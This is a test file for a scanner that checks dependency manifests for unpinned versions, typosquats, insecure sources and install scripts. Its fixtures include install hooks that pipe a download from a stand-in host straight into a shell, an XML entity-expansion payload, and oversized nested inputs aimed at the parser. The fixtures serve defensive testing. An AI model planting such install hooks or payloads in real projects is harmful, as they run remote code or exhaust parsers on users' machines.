import { dependencyFindings } from './dependency-findings.js';
import { dependencyRules } from './rule-list.js';
import { type ManifestFormat, manifestFormatOf } from './manifest-formats.js';
import { edited } from '../rules/verify-fixes.js';

const run = (filename: string, text: string) => {
  const format = manifestFormatOf(filename);
  if (format === null) throw new Error(`${filename} is no manifest`);
  return dependencyFindings(text, format.read);
};
const idsOf = (filename: string, text: string) => run(filename, text).findings.map(({ rule_id: id }) => id);

const examples = dependencyRules.flatMap(({ id, examples: all }) =>
  all.flatMap(({ filename, bad, good }) => [
    ...bad.map((text): [string, string, string, boolean] => [id, filename, text, true]),
    ...good.map((text): [string, string, string, boolean] => [id, filename, text, false]),
  ]),
);

/** One entry that must be reported and one that must not, per format: `bad → rule`, `good → nothing at all`. */
const twins: readonly [filename: string, bad: string, rule: string, good: string][] = [
  [
    'package.json',
    '{"dependencies": {"x": "github:me/x"}}',
    'unpinned-version',
    '{"dependencies": {"x": "github:me/x#0123abc"}}',
  ],
  [
    'package.json',
    '{"dependencies": {"x": ">=1.0.0"}}',
    'unpinned-version',
    '{"dependencies": {"x": ">=1.0.0 <2.0.0"}, "peerDependencies": {"react": "*"}}',
  ],
  [
    'package.json',
    '{"dependencies": {"loadsh": "4.0.0"}}',
    'typosquat',
    '{"dependencies": {"lodash": "4.0.0", "preact": "^10", "mysql2": "^3", "color": "^4", "tslib": "^2"}}',
  ],
  [
    'package.json',
    '{"scripts": {"preinstall": "wget -qO- https://a.example | bash"}}',
    'install-script',
    '{"scripts": {"test": "curl https://a.example | sh"}}',
  ],
  [
    'pyproject.toml',
    '[project]\ndependencies = [\n  "flask",\n]\n',
    'unpinned-version',
    '[project]\ndependencies = ["flask>=2", "a[x]~=1.0; python_version > \'3\'"]\n',
  ],
  [
    'pyproject.toml',
    '[tool.poetry.dependencies]\npython = "*"\nflask = "*"\n',
    'unpinned-version',
    '[tool.poetry.dependencies]\npython = "^3.11"\nflask = {version = "^3", extras = ["async"]}\n',
  ],
  [
    'pyproject.toml',
    '[[tool.poetry.source]]\nname = "a"\nurl = "https://a.example"\npriority = "supplemental"\n',
    'confusable-source',
    '[[tool.poetry.source]]\nname = "a"\nurl = "https://a.example"\npriority = "explicit"\n',
  ],
  [
    'pom.xml',
    '<project><dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId><version>LATEST</version></dependency></dependencies></project>',
    'unpinned-version',
    '<project><properties><v>1.2</v></properties><dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId><version>${v}</version></dependency><dependency><groupId>g</groupId><artifactId>b</artifactId></dependency></dependencies></project>',
  ],
  [
    'pom.xml',
    '<project><repositories><repository><url>http://maven.example.org/r</url></repository></repositories></project>',
    'insecure-source',
    '<project xmlns="http://maven.apache.org/POM/4.0.0"><url>http://example.org</url></project>',
  ],
  [
    'build.gradle',
    "dependencies {\n  implementation 'g.h:a:1.+'\n}\n",
    'unpinned-version',
    "def v = '1.2'\ndependencies {\n  implementation \"g.h:a:$v\" // 'g:x:+'\n  implementation project(':b')\n}\n",
  ],
  [
    'build.gradle.kts',
    'repositories { maven { url = uri("http://r.example.org") } }\n',
    'insecure-source',
    'dependencies { testImplementation("g.h:a:1.2.3") }\n',
  ],
  [
    'App.csproj',
    '<Project><ItemGroup><PackageReference Include="Dapper" Version="*" /></ItemGroup></Project>',
    'unpinned-version',
    '<Project><ItemGroup><PackageReference Include="Dapper" Version="2.1.0" /><PackageReference Include="Serilog" /></ItemGroup></Project>',
  ],
  [
    'packages.config',
    '<packages><package id="Newtonsoft.Jsom" version="13.0.1" /></packages>',
    'typosquat',
    '<packages><package id="Newtonsoft.Json" version="13.0.1" /></packages>',
  ],
  [
    'go.mod',
    'module m\n\nrequire (\n\tgithub.com/dgrijalva/jwt-go v3.2.0+incompatible\n)\n',
    'deprecated-package',
    'module m\n\ngo 1.22\n\nrequire github.com/golang-jwt/jwt/v5 v5.2.0 // indirect\n\nreplace a.example/b => ../b\n',
  ],
  [
    'composer.json',
    '{"repositories": [{"type": "composer", "url": "http://r.example.org"}]}',
    'insecure-source',
    '{"require": {"php": ">=8.1", "monolog/monolog": "^3.0"}, "scripts": {"post-install-cmd": ["@php artisan optimize"]}}',
  ],
  [
    'Gemfile',
    "source 'https://rubygems.org'\ngem 'nokogirii', '~> 1.15'\n",
    'typosquat',
    "source 'https://rubygems.org'\ngem 'nokogiri', '~> 1.15'\ngem 'puma', '>= 5.0'\n",
  ],
  [
    'Cargo.toml',
    '[dependencies.serde]\nversion = "*"\n',
    'unpinned-version',
    '[package]\nname = "x"\nversion = "1.0.0"\n[dependencies]\nserde = { version = "1", features = ["derive"] }\nlocal = { path = "../l" }\n',
  ],
];

describe('rules of manifests', () => {
  it.each(examples)('%s in %s: %j', (id, filename, text, isBad) => {
    expect(idsOf(filename, text).includes(id)).toBe(isBad);
  });

  it.each(twins)('%s: %s', (filename, bad, rule, good) => {
    expect(idsOf(filename, bad).some((id) => id.endsWith(`/${rule}`))).toBe(true);
    expect(idsOf(filename, good)).toEqual([]);
  });

  it('point at the line, and never name a secret', () => {
    const text =
      'flask==3.0.0\n\n# next\nreqeusts==2.0 \\\n    --hash=sha256:00\n--index-url http://me:s3cr3tvalue@a.example\n';
    const { findings } = run('requirements.txt', text);
    expect(findings.map(({ rule_id: id, location }) => [id, location.start.line, location.start.column])).toEqual([
      ['dependency/typosquat', 4, 1],
      ['dependency/insecure-source', 6, 13],
      ['dependency/credentials-in-source', 6, 13],
    ]);
    expect(JSON.stringify(findings)).not.toContain('s3cr3tvalue');
  });

  it('offer fixes after which nothing is left to say', () => {
    const text = '--index-url http://pypi.org/simple\ndjnago==4.2\n';
    const { findings } = run('requirements.txt', text);
    const edits = findings.flatMap(({ fix }) => fix?.edits ?? []);
    expect(edited(text, edits)).toBe('--index-url https://pypi.org/simple\ndjango==4.2\n');
    expect(idsOf('requirements.txt', edited(text, edits))).toEqual([]);
  });

  it('keep the dangerous verdict when the caller asks for something else', () => {
    const text = '{"scripts": {"postinstall": "curl https://a.example/x | sh"}}';
    const format = manifestFormatOf('package.json');
    const result = dependencyFindings(text, (format as ManifestFormat).read, { categories: ['testing'] });
    expect(result).toMatchObject({ findings: [], dangerous: true });
  });
});

describe('hostile manifests', () => {
  const big = 1_000_000;
  it.each<[string, string]>([
    ['package.json', '['.repeat(big)],
    ['package.json', '{"dependencies":'.repeat(60_000)],
    ['package.json', `{"dependencies": {${'"a": "*",'.repeat(100_000)}`],
    ['package.json', `{"dependencies": {"${'a'.repeat(big)}": "*"}}`],
    ['pom.xml', `<!DOCTYPE a [<!ENTITY b "${'&b;'.repeat(1_000)}">]><project>${'&b;'.repeat(100_000)}</project>`],
    ['pom.xml', '<a>'.repeat(300_000)],
    ['pom.xml', `<a ${'b="" '.repeat(200_000)}>`],
    ['pom.xml', '<a b="'.repeat(160_000)],
    ['Cargo.toml', `a = ${'['.repeat(big)}`],
    ['Cargo.toml', 'a.'.repeat(big / 2)],
    ['pyproject.toml', '"""'.repeat(300_000)],
    ['requirements.txt', 'a'.repeat(big)],
    ['requirements.txt', '--'.repeat(big / 2)],
    ['go.mod', 'require a/'.repeat(100_000)],
    ['build.gradle', `implementation ${"'a:".repeat(300_000)}`],
    ['build.gradle', '/*'.repeat(big / 2)],
    ['Gemfile', `gem 'a', ${"'1', ".repeat(150_000)}`],
  ])('%s of a megabyte ends: %.20s', (filename, text) => {
    expect(run(filename, text).findings.length).toBeLessThan(1_000);
  });

  it('keep what stands before a mistake', () => {
    expect(idsOf('package.json', '{"dependencies": {"lodash": "*", oops')).toEqual(['dependency/unpinned-version']);
    expect(idsOf('Cargo.toml', '[dependencies]\n= nonsense\nserde = "*"\n')).toEqual(['dependency/unpinned-version']);
  });

  it('are no prototype', () => {
    expect(idsOf('package.json', '{"dependencies": {"__proto__": "1.0.0", "constructor": "1.0.0"}}')).toEqual([]);
  });
});
